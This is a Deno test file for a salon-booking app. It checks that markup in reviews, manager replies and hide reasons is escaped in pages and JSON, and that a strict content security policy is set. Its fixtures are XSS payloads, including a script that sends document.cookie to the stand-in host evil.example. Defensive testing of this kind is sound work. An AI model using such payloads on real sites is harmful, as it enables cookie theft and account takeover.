import assert from "node:assert/strict";
import { makeTestApp } from "./helpers/app.ts";
import { browserLogin, login, postJson } from "./helpers/auth.ts";
import { testBackend } from "./helpers/db.ts";
import { makeBooking, makeSalon, makeService, makeStaff } from "./helpers/factories.ts";

const backend = testBackend();

const TEXT = `<script>alert("review")</script><img src=x onerror=alert(1)> "quoted" & 'single'`;
const REPLY =
  `</p><script>fetch("//evil.example/"+document.cookie)</script><a href="javascript:x">x</a>`;
const REASON = `<svg onload=alert(3)>`;

Deno.test(`reviews XSS (${backend}) - markup in review text and salon replies comes back as text in every page and JSON body`, async (s) => {
  const t = await makeTestApp();
  try {
    const salon = await makeSalon(t.db);
    const service = await makeService(t.db, salon);
    const staff = await makeStaff(t.db, salon, { services: [service.id] });
    const jar = await browserLogin(t);
    const [{ id: customerId }] = await t.db.query<{ id: string }>("SELECT id FROM users LIMIT 1");
    const booking = await makeBooking(t.db, {
      service,
      staff,
      starts_at: new Date("2026-11-19T10:00:00Z"),
      customer_id: customerId,
      status: "completed",
    });
    const same = { cookie: jar.header(), "sec-fetch-site": "same-origin" };
    const created = await postJson(t.app, `/api/bookings/${booking.id}/review/`, {
      rating: 3,
      text: TEXT,
    }, same);
    assert.equal(created.status, 201);
    const manager = await login(t, "0512345671");
    await t.db.query(
      "INSERT INTO salon_memberships (user_id, salon_id, role) VALUES ($1, $2, 'manager')",
      [manager.user.id, salon.id],
    );
    const replied = await postJson(
      t.app,
      `/api/salons/${salon.slug}/reviews/${(await created.json()).review.id}/reply/`,
      { text: REPLY },
      { authorization: `Bearer ${manager.access}` },
    );
    assert.equal(replied.status, 200);

    const assertInert = (html: string, where: string) => {
      for (const live of ["<script>alert", "<img src=x", "<script>fetch", '<a href="javascript']) {
        assert.ok(!html.includes(live), `${where}: ${live} must not be live markup`);
      }
    };

    await s.step("the salon page and the reviews page escape both", async () => {
      for (const path of [`/salons/${salon.slug}`, `/salons/${salon.slug}/reviews`]) {
        const res = await t.app.request(path);
        assert.equal(res.status, 200);
        const csp = res.headers.get("content-security-policy") ?? "";
        assert.match(
          csp,
          /script-src 'self'( 'sha256-[^']+')*;/,
          "and inline scripts run only when their hash is in the policy",
        );
        assert.doesNotMatch(csp, /unsafe-inline/);
        const html = await res.text();
        assertInert(html, path);
        assert.match(html, /&lt;script(&gt;|>)alert\(/, `${path}: the review text shown as text`);
        assert.match(html, /&lt;\/p(&gt;|>)&lt;script(&gt;|>)fetch\(/, `${path}: the reply`);
      }
    });

    await s.step("the customer's booking page and review form escape it too", async () => {
      for (const path of [`/bookings/${booking.id}`, `/bookings/${booking.id}/review`]) {
        const html = await (await t.app.request(path, { headers: { cookie: jar.header() } }))
          .text();
        assertInert(html, path);
        assert.match(html, /&lt;script(&gt;|>)alert\(/, path);
      }
    });

    await s.step("JSON bodies carry no raw < > & at all, and parse back to the text", async () => {
      const list = await t.app.request(`/api/salons/${salon.slug}/reviews/`);
      assert.match(list.headers.get("content-type") ?? "", /^application\/json/);
      assert.equal(list.headers.get("x-content-type-options"), "nosniff");
      const raw = await list.text();
      assert.ok(!/[<>&]/.test(raw), raw);
      const body = JSON.parse(raw);
      assert.equal(body.results[0].text, TEXT);
      assert.equal(body.results[0].reply.text, REPLY);
      const mine = await (await t.app.request(`/api/bookings/${booking.id}/review/`, {
        headers: { cookie: jar.header() },
      })).text();
      assert.ok(!/[<>&]/.test(mine));
      assert.equal(JSON.parse(mine).review.text, TEXT);
    });

    await s.step("a hide reason with markup is shown to the author as text", async () => {
      const [{ id }] = await t.db.query<{ id: string }>("SELECT id FROM reviews");
      const hidden = await postJson(t.app, `/api/salons/${salon.slug}/reviews/${id}/hide/`, {
        reason: REASON,
      }, { authorization: `Bearer ${manager.access}` });
      assert.equal(hidden.status, 200);
      const html = await (await t.app.request(`/bookings/${booking.id}`, {
        headers: { cookie: jar.header() },
      })).text();
      assert.ok(!html.includes("<svg onload"));
      assert.match(html, /&lt;svg onload=alert\(3\)(&gt;|>)/);
    });
  } finally {
    await t.close();
  }
});
